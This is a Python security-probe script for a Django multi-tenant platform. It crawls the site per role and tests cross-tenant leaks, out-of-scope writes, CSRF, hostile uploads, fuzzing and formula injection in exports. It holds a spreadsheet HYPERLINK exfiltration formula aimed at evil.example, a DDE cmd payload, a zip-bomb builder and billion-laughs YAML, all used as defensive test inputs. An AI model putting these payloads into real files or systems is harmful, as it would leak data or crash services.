"""A bounded attack probe of the platform (issue 18's figures): ``make probe`` (= ``python -m bench.probe``).

It builds the demo platform (fewer firms) in a throw-away SQLite database, adds a second zone's
administrator and a second bank's officer, renames some firms to spreadsheet formulas, and then,
through Django's test client (every request in process, nothing leaves the machine):

1. **crawls** the site as every role (links of the pages, bounded per route), counting server errors;
2. **cross-tenant reads**: every URL any role reached is asked by every other role; a response that
   shows the credit code or the name of a firm the scoping helper (``accounts.scoping.visible``) does
   not give that role — neither among the firms it sees nor named by a row it sees (an expert's
   assigned applications, a bank's listed firms) — is a *leak* (pages, CSV/JSON and xlsx exports);
3. **out-of-scope writes**: every form found by the system administrator is posted back (its own default
   values) by the roles that are not its owners; a post after which the database differs (a hash of
   every table but sessions, login attempts and the audit log) is a *write out of scope*. Every form is
   also posted without a CSRF token by its owner (anything but 403 counts);
4. **hostile files and YAML**: a sheet declaring A1:XFD1048576, a zip bomb, a Parquet file over the row
   limit, a formula-named and a NUL-named firm, a billion-laughs and a 50,000-deep YAML text, uploaded
   through the pages; counted: server errors, crashes (the probe process dies), rows written, files
   left in the upload folder;
5. **fuzz**: every crawled page and every API operation asked with hostile ids, numbers, dates and texts;
6. **exports**: every xlsx/CSV the crawl downloaded, scanned for live formulas and dangerous cells.

Concurrency (the login-lockout race, concurrent imports) needs PostgreSQL and real threads: it is
proved by ``tests/web/test_hostile_concurrency.py`` in the PostgreSQL pass, not repeated here.

The figures go to the "Probe" section of ``bench/results.md`` (between its own markers).
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from collections import Counter, defaultdict
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parent.parent
RESULTS = ROOT / "bench" / "results.md"
BEGIN = "<!-- probe:begin (written by bench/probe.py) -->"
END = "<!-- probe:end -->"

HUGE = "99999999999999999999999"
HOSTILE_VALUES = [
    HUGE,
    "-1",
    "1e999",
    "NaN",
    "9" * 2_000,
    "9999-12-31",
    "2025-02-30",
    "长沙\x00零字节",
    "a" * 5_000,
]
PAGE_PARAMS = (
    "zone",
    "year",
    "page",
    "node",
    "until",
    "since",
    "q",
    "status",
    "sort",
    "stage",
    "run",
    "amount",
)
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"点我")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
USCC_RE = re.compile(rb"[0-9A-HJ-NPQRTUWXY]{2}[0-9]{6}[0-9A-HJ-NPQRTUWXY]{10}")
SKIP = ("/accounts/logout", "/i18n/", "/static/", "/media/", "/admin/")
PER_ROUTE = 3  # distinct URLs kept per route pattern and role
MAX_PAGES = 600  # per role
SLOW = 2.0  # seconds: a request slower than this is named (a hostile value should not cost a page more)


_T0 = time.perf_counter()


def _log(msg: str) -> None:
    print(f"[{time.perf_counter() - _T0:7.1f}s] {msg}", file=sys.stderr, flush=True)


class _Page(HTMLParser):
    """Links and POST forms (action, fields with their default values) of one HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.forms: list[tuple[str, dict[str, str]]] = []
        self._form: tuple[str, dict[str, str]] | None = None
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form" and (a.get("method") or "get").lower() == "post":
            self._form = (a.get("action") or "", {})
        elif self._form is not None and tag in ("input", "textarea") and a.get("name"):
            kind = (a.get("type") or "text").lower()
            if kind in ("checkbox", "radio") and "checked" not in a:
                return
            if kind != "file":
                self._form[1].setdefault(a["name"], a.get("value") or "")
        elif self._form is not None and tag == "select" and a.get("name"):
            self._select = a["name"]
        elif self._form is not None and tag == "option" and self._select:
            self._form[1].setdefault(self._select, a.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "form" and self._form is not None:
            self.forms.append(self._form)
            self._form = None


def _route(path: str) -> str:
    from django.urls import Resolver404, resolve

    try:
        match = resolve(path)
    except Resolver404:
        return path
    return match.route


def _texts(response) -> bytes:
    """The bytes of a response to look for firms in: xlsx unzipped to its strings, the rest as sent."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(body)) as z:
                return b" ".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
        except zipfile.BadZipFile:
            return body
    return body


def _formula_cells(response, body: bytes) -> int:
    """Live formulas (xlsx) or cells beginning with a formula character (CSV) in an export."""
    from gaoxin.io import safe

    kind = response.get("Content-Type", "")
    if "spreadsheetml" in kind:
        return len(re.findall(rb"<f>", body))
    if "csv" in kind:
        text = body.decode("utf-8-sig", errors="replace")
        return sum(safe.is_dangerous(c) for row in csv.reader(io.StringIO(text)) for c in row)
    return 0


def _db_hash(poster=None) -> dict[str, str]:
    """A hash per table of its rows, but those a refused request may write (sessions, attempts, audit).

    With ``poster`` a zone's staff, the rows of its own zone (``scoping.visible``: what it may read and,
    for zone staff, write) are left out: a zone administrator who posts another zone's form without a
    zone field writes into its own zone, which is in scope. The task rows are left out with them (a job
    row of the poster's zone carries the same fact)."""
    from django.apps import apps
    from django.db import connection

    from gaoxin.web.accounts.models import Role
    from gaoxin.web.accounts.scoping import ScopeError, visible

    skip = {"django_session", "accounts_loginattempt", "django_migrations"}
    own: dict[str, set] = {}
    if poster is not None and poster.role in (Role.ZONE_ADMIN, Role.CLERK):
        skip.add("django_tasks_database_dbtaskresult")
        for model in apps.get_models():
            try:
                own[model._meta.db_table] = set(visible(poster, model).values_list("pk", flat=True))
            except ScopeError:
                continue
    out = {}
    with connection.cursor() as cursor:
        for table in sorted(connection.introspection.table_names()):
            if table in skip or "audit" in table:
                continue
            digest = hashlib.sha256()
            mine = own.get(table, set())
            cursor.execute(f'SELECT * FROM "{table}"')  # table names from the database itself
            for row in cursor.fetchall():
                if mine and row[0] in mine:  # the primary key comes first in every table here
                    continue
                digest.update(repr(row).encode())
            out[table] = digest.hexdigest()
    return out


def _granted_firms(user) -> set[str]:
    """The credit codes the scoping helper lets ``user`` read: the firms it sees, and the firms named by
    any row it sees (an expert's assigned applications, a bank's listed firms, a policy's awardees …).
    A page that shows any other firm shows what the scoping helper did not grant: a leak."""
    from django.apps import apps

    from gaoxin.web.accounts.scoping import ScopeError, visible
    from gaoxin.web.registry.models import Enterprise

    granted = set(visible(user, Enterprise).values_list("uscc", flat=True))
    for model in apps.get_models():
        for field in model._meta.get_fields():
            if getattr(field, "many_to_one", False) and field.related_model is Enterprise and field.concrete:
                try:
                    rows = visible(user, model)
                except ScopeError:
                    continue
                granted |= set(rows.values_list(f"{field.name}__uscc", flat=True))
    granted.discard(None)
    return granted


class Probe:
    def __init__(self, users: dict) -> None:
        from django.test import Client

        from gaoxin.web.registry.models import Enterprise

        self.users = users
        self.clients = {}
        for name, user in users.items():
            c = Client(raise_request_exception=False)
            c.force_login(user)
            self.clients[name] = c
        everyone = dict(Enterprise.objects.values_list("uscc", "name"))
        self.forbidden: dict[str, tuple[set[bytes], re.Pattern | None]] = {}
        for name, user in users.items():
            mine = _granted_firms(user)
            codes = {u.encode() for u in everyone if u not in mine}
            names = sorted({everyone[u] for u in everyone if u not in mine and len(everyone[u]) >= 6})
            pattern = re.compile("|".join(map(re.escape, names)).encode()) if names else None
            self.forbidden[name] = (codes, pattern)
        self.counts: Counter = Counter()
        self.examples: dict[str, list[str]] = defaultdict(list)
        self.reached: dict[str, set[str]] = defaultdict(set)
        self.forms: dict[str, list[tuple[str, str, dict]]] = defaultdict(
            list
        )  # role → (page, action, fields)
        self.exports: list[tuple[str, str]] = []

    def note(self, what: str, example: str) -> None:
        self.counts[what] += 1
        self.examples[what].append(example)

    def get(self, role: str, url: str, **query):
        self.counts["requests"] += 1
        start = time.perf_counter()
        r = self.clients[role].get(url, query) if query else self.clients[role].get(url)
        if (seconds := time.perf_counter() - start) > SLOW:
            self.note("requests over 2 s", f"{role} GET {url} {str(query)[:60]} {seconds:.1f} s")
        if r.status_code >= 500:
            self.note("server errors", f"{role} GET {url} {query}"[:160])
        return r

    # 1. crawl ---------------------------------------------------------------------------------------

    def crawl(self, role: str) -> None:
        queue, seen, per_route = ["/"], set(), Counter()
        while queue and len(seen) < MAX_PAGES:
            url = queue.pop(0)
            if url in seen:
                continue
            seen.add(url)
            r = self.get(role, url)
            self.counts[f"crawl {r.status_code}"] += 1
            if r.status_code in (301, 302) and r["Location"].startswith("/"):
                queue.append(r["Location"])
                continue
            if r.status_code != 200:
                continue
            self.reached[role].add(url)
            kind = r.get("Content-Type", "")
            if "html" not in kind:
                if "csv" in kind or "spreadsheetml" in kind:
                    self.exports.append((role, url))
                continue
            page = _Page()
            page.feed(r.content.decode("utf-8", errors="replace"))
            for action, fields in page.forms:
                self.forms[role].append((url, action or url, fields))
            for href in page.links:
                parts = urlsplit(href)
                if parts.scheme or parts.netloc or not parts.path.startswith("/"):
                    continue
                if parts.path.startswith(SKIP):
                    continue
                target = parts.path + (f"?{parts.query}" if parts.query else "")
                key = _route(parts.path)
                if target not in seen and per_route[key] < PER_ROUTE:
                    per_route[key] += 1
                    queue.append(target)

    # 2. cross-tenant reads --------------------------------------------------------------------------

    def leaks(self) -> None:
        every = sorted({u for urls in self.reached.values() for u in urls})
        for role in self.users:
            codes, names = self.forbidden[role]
            for url in every:
                r = self.get(role, url)
                self.counts["cross-tenant reads"] += 1
                if r.status_code != 200:
                    continue
                body = _texts(r)
                found = {m for m in USCC_RE.findall(body) if m in codes}
                hit = names.search(body) if names is not None else None
                if found or hit:
                    what = next(iter(found), b"").decode() or hit.group(0).decode()
                    self.note("leaks", f"{role} saw {what} at {url}")

    # 3. out-of-scope writes and CSRF ----------------------------------------------------------------

    def writes(self, owner: str, others: list[str]) -> None:
        from django.test import Client

        csrf = Client(enforce_csrf_checks=True, raise_request_exception=False)
        csrf.force_login(self.users[owner])
        seen = set()
        for page, action, fields in self.forms[owner]:
            target = action if action.startswith("/") else page
            if target.startswith(("/accounts/logout", "/i18n/")) or (target, tuple(fields)) in seen:
                continue
            seen.add((target, tuple(fields)))
            data = {k: v for k, v in fields.items() if k != "csrfmiddlewaretoken"}
            r = csrf.post(target, data)
            self.counts["posts without CSRF token"] += 1
            if r.status_code != 403:
                self.note("CSRF not refused", f"{owner} POST {target} → {r.status_code}")
            for role in others:
                self.counts["out-of-scope posts"] += 1
                before = _db_hash(self.users[role])
                r = self.clients[role].post(target, data)
                if r.status_code >= 500:
                    self.note("server errors", f"{role} POST {target}")
                if r.status_code in (403, 404, 405):
                    continue
                after = _db_hash(self.users[role])
                if after != before:
                    changed = ",".join(t for t in after if after[t] != before.get(t))
                    self.note("writes out of scope", f"{role} POST {target} → {r.status_code} ({changed})")

    # 4. hostile files and YAML ----------------------------------------------------------------------

    def files(self, clerk: str, media: Path) -> None:
        from gaoxin.web.registry.models import AnnualReport, Enterprise

        uploads = media / "imports"
        rows_before = Enterprise.objects.count() + AnnualReport.objects.count()
        files_before = set(uploads.rglob("*")) if uploads.exists() else set()
        for name, data in _hostile_files():
            from django.core.files.uploadedfile import SimpleUploadedFile

            self.counts["hostile files"] += 1
            upload = SimpleUploadedFile(name, data)
            r = self.clients[clerk].post("/registry/imports/new/", {"file": upload, "department": "统计局"})
            if r.status_code >= 500:
                self.note("server errors", f"upload {name}")
            if r.status_code == 302 and "/imports/" in r["Location"]:
                self.get(clerk, r["Location"])  # the preview (or the refusal) the clerk is sent to
        # The uploads wait for the task worker: run one, as its own process, until the queue is empty
        # (a file that killed it would show here as a crash of the worker, not of the probe).
        worker = subprocess.run(
            [sys.executable, "-m", "django", "gaoxin_worker", "--batch", "--no-startup-delay"],
            env={**os.environ},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=900,
        )
        if worker.returncode != 0:
            self.note("worker crashes", f"exit {worker.returncode}: {worker.stderr.decode()[-300:]}")
        rows_after = Enterprise.objects.count() + AnnualReport.objects.count()
        if rows_after != rows_before:
            self.note("rows written by hostile files", f"{rows_after - rows_before} rows")
        # An upload waiting for the clerk's confirmation keeps its file, a refused one the marked copy
        # the clerk downloads (its batch names it); any other file is left behind.
        from gaoxin.web.registry.models import ImportBatch

        pending = {
            str(media / f)
            for f in ImportBatch.objects.filter(status=ImportBatch.Status.PREVIEW).values_list(
                "stored_file", flat=True
            )
        }
        for counts in ImportBatch.objects.filter(status=ImportBatch.Status.REFUSED).values_list(
            "counts", flat=True
        ):
            if counts.get("annotated"):
                pending.add(str(media / counts["annotated"]))
                self.counts["marked copies kept for the clerk"] += 1
        left = (set(uploads.rglob("*")) if uploads.exists() else set()) - files_before
        for path in left:
            if (
                path.is_file()
                and str(path) not in pending
                and path.name not in {Path(p).name for p in pending}
            ):
                self.note("files left behind", str(path.relative_to(media)))
        for label, text in _hostile_yaml():
            self.counts["hostile YAML texts"] += 1
            start = time.perf_counter()
            r = self.clients["zone_admin"].post("/cultivation/settings/", {"config": text, "text": text})
            if r.status_code >= 500:
                self.note("server errors", f"ladder settings {label}")
            if time.perf_counter() - start > 5:
                self.note("YAML texts taking over 5 s", label)

    # 5. fuzz ----------------------------------------------------------------------------------------

    def fuzz(self, role: str) -> None:
        from gaoxin.web.api.api import api

        pages = sorted(self.reached[role])
        by_route: dict[str, str] = {}
        for url in pages:
            by_route.setdefault(_route(urlsplit(url).path), urlsplit(url).path)
        _log(f"fuzzing {len(by_route)} pages as {role}")
        for i, path in enumerate(by_route.values()):
            for j, param in enumerate(PAGE_PARAMS):
                # every parameter on every page, five of the hostile values in turn (bounded: 30 per page)
                start = (i + j) % len(HOSTILE_VALUES)
                for value in (HOSTILE_VALUES * 2)[start : start + 5]:
                    self.counts["fuzzed requests"] += 1
                    self.get(role, path, **{param: value})
        schema = api.get_openapi_schema()
        for path, ops in schema["paths"].items():
            for method, op in ops.items():
                if method != "get":
                    continue
                for p in op.get("parameters", []):
                    for value in HOSTILE_VALUES:
                        self.counts["fuzzed requests"] += 1
                        url = re.sub(r"\{[^}]+\}", value if "{" + p["name"] + "}" in path else "1", path)
                        query = {} if "{" + p["name"] + "}" in path else {p["name"]: value}
                        # a NUL in the path: Django's client refuses to send it, the site never sees it
                        with contextlib.suppress(ValueError):
                            self.get(role, url, **query)

    # 6. exports -------------------------------------------------------------------------------------

    def formulas(self) -> None:
        for role, url in self.exports:
            r = self.get(role, url)
            if r.status_code != 200:
                continue
            self.counts["exports scanned"] += 1
            n = _formula_cells(r, _texts(r))
            if n:
                self.counts["dangerous cells"] += n
                self.note("exports with dangerous cells", f"{url} ({n})")


def _hostile_files() -> list[tuple[str, bytes]]:
    import polars as pl
    import xlsxwriter

    out = []
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    ws.write_string(0, 0, "统一社会信用代码")
    ws.write_string(1_048_575, 16_383, "x")  # the sheet now declares A1:XFD1048576
    wb.close()
    out.append(("dimension.xlsx", buf.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"<c><v>0</v></c>" * 65_536
            for _ in range(300):  # about 300 MB of XML in a file of about 1 MB
                member.write(chunk)
        z.writestr("[Content_Types].xml", "<Types/>")
    out.append(("bomb.xlsx", bomb.getvalue()))
    many = io.BytesIO()
    pl.DataFrame({"uscc": pl.repeat("91350100M000000001", 1_200_000, eager=True)}).write_parquet(many)
    out.append(("rows.parquet", many.getvalue()))
    header = "统一社会信用代码,企业名称,所在园区\n"
    out.append(("formula.csv", (header + "\t=2+3,=1+2,Z1\n").encode()))
    out.append(("nul.csv", (header + "91350100M000000001,长沙\x00零字节公司,Z1\n").encode()))
    out.append(("long.csv", (header + f"91350100M000000001,{'名' * 100_000},Z1\n").encode()))
    return out


def _hostile_yaml() -> list[tuple[str, str]]:
    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        laughs.append(f"{cur}: &{cur} [{','.join(['*' + prev] * 9)}]")
    return [("billion laughs", "\n".join(laughs)), ("50,000 nested [", "[" * 50_000)]


def _population(firms: int, zones: int):
    from gaoxin.web.platform import demo

    data_dir = Path(tempfile.mkdtemp(prefix="gaoxin-probe-"))
    database = demo.configure(data_dir)
    _log(f"building the demo platform ({zones} zones × {firms} firms) in {data_dir}")
    demo.build(data_dir, database, enterprises_per_zone=firms, zones=zones, say=lambda _m: None)
    return data_dir


def _users() -> dict:
    from gaoxin.web.accounts.models import Bank, Role, User
    from gaoxin.web.registry.models import Enterprise, Region, Zone

    users = {u.username: u for u in User.objects.all()}
    second = Zone.objects.order_by("pk")[1]
    users["zone_b_admin"] = User.objects.create(
        username="zone_b_admin", role=Role.ZONE_ADMIN, display_name="乙园区管理员", zone=second
    )
    other_bank = Bank.objects.create(code="probe-bank", name="探测银行")
    users["bank_b"] = User.objects.create(
        username="bank_b", role=Role.BANK, display_name="探测银行客户经理", bank=other_bank
    )
    # A zone of another province, so that a province's supervisor has something outside its region.
    province = Zone.objects.order_by("pk")[0].region
    if province is not None and Zone.objects.count() >= 3:
        other = Region.objects.create(
            code="probe-province", name="探测省", level=Region.Level.PROVINCE, parent=province.parent
        )
        Zone.objects.filter(pk=Zone.objects.order_by("pk")[2].pk).update(region=other)
    first = Zone.objects.order_by("pk")[0]
    for i, e in enumerate(Enterprise.objects.filter(zone=first).order_by("pk")[:40]):
        e.name = f"{FORMULAS[i % len(FORMULAS)]}{i:02d}号"  # no name a substring of another
        e.save(update_fields=["name"])
    return users


def _write(text: str) -> None:
    old = RESULTS.read_text(encoding="utf-8") if RESULTS.exists() else ""
    block = f"{BEGIN}\n{text.rstrip()}\n{END}\n"
    if BEGIN in old and END in old:
        head, rest = old.split(BEGIN, 1)
        new = head + block + rest.split(END, 1)[1].lstrip("\n")
    else:
        new = old.rstrip("\n") + "\n\n" + block
    RESULTS.write_text(new, encoding="utf-8")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument("--firms", type=int, default=150, help="firms per zone (default 150)")
    parser.add_argument("--zones", type=int, default=3)
    parser.add_argument("--no-write", action="store_true", help="print only; leave bench/results.md")
    args = parser.parse_args(argv)
    data_dir = _population(args.firms, args.zones)
    from django.conf import settings

    users = _users()
    probe = Probe(users)
    start = time.perf_counter()
    for role in users:
        probe.crawl(role)
        _log(f"crawled as {role}: {len(probe.reached[role])} pages")
    probe.leaks()
    _log("cross-tenant reads done")
    # The forms of the system administrator are posted by the roles that write nothing of the zones'
    # (banks, firms, supervisors, the other two administrators); a zone administrator's forms by the
    # other zone, the banks and the firm.
    outsiders = [
        "bank_b",
        "firm",
        "province",
        "nation",
        "security",
        "auditor",
    ]  # not the demo's bank: its own
    owners = {"admin": outsiders, "zone_admin": ["zone_b_admin", "bank", "bank_b", "firm", "province"]}
    for owner, others in owners.items():
        probe.writes(owner, [r for r in others if r in users])
    _log("writes done")
    probe.files("clerk", Path(settings.MEDIA_ROOT))
    _log("hostile files done")
    for role in ("admin", "zone_admin", "bank", "firm", "province"):
        probe.fuzz(role)
    _log("fuzz done")
    probe.formulas()
    seconds = time.perf_counter() - start
    c = probe.counts
    rows = [
        ("requests in all", c["requests"]),
        ("pages reached by the crawl (all roles)", sum(len(v) for v in probe.reached.values())),
        ("cross-tenant reads", c["cross-tenant reads"]),
        ("leaks (a firm the role may not see, on a page or in an export)", c["leaks"]),
        ("out-of-scope posts", c["out-of-scope posts"]),
        ("writes out of scope", c["writes out of scope"]),
        ("posts without CSRF token / not refused", f"{c['posts without CSRF token']} / {c['CSRF not refused']}"),
        ("hostile files / rows written / files left behind",
         f"{c['hostile files']} / {c['rows written by hostile files']} / {c['files left behind']}"),
        ("refused files' marked copies kept for the clerk", c["marked copies kept for the clerk"]),
        ("hostile YAML texts / over 5 s", f"{c['hostile YAML texts']} / {c['YAML texts taking over 5 s']}"),
        ("fuzzed requests", c["fuzzed requests"]),
        ("requests over 2 s", c["requests over 2 s"]),
        ("server errors (5xx), all classes", c["server errors"]),
        ("crashes of the process", 0),  # the probe got here, in the process that served every request
        ("crashes of the task worker", c["worker crashes"]),
        ("exports scanned / dangerous cells", f"{c['exports scanned']} / {c['dangerous cells']}"),
    ]  # fmt: skip
    lines = [
        "## Probe: hostile requests, files and roles (`make probe`)",
        "",
        f"{args.zones} demo zones × {args.firms} firms, {len(users)} accounts of every role, SQLite; "
        f"{seconds:.0f} s on this machine ({time.strftime('%Y-%m-%d')}). Method: `bench/probe.py`'s docstring. "
        "Concurrency (lockout race, concurrent imports) is covered by the PostgreSQL tests, not here.",
        "",
        "| what | count |",
        "|---|---:|",
        *(f"| {what} | {n:,} |" if isinstance(n, int) else f"| {what} | {n} |" for what, n in rows),
    ]
    for what, examples in sorted(probe.examples.items()):
        lines += ["", f"{what}, e.g.:", *(f"- `{e}`" for e in examples[:5])]
    (data_dir / "probe-findings.json").write_text(json.dumps(probe.examples, ensure_ascii=False, indent=1))
    text = "\n".join(lines)
    print(text)
    _log(
        "crawl statuses: " + ", ".join(f"{k[6:]}×{v}" for k, v in sorted(c.items()) if k.startswith("crawl "))
    )
    if not args.no_write:
        _write(text)
    _log(f"probe data in {data_dir}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
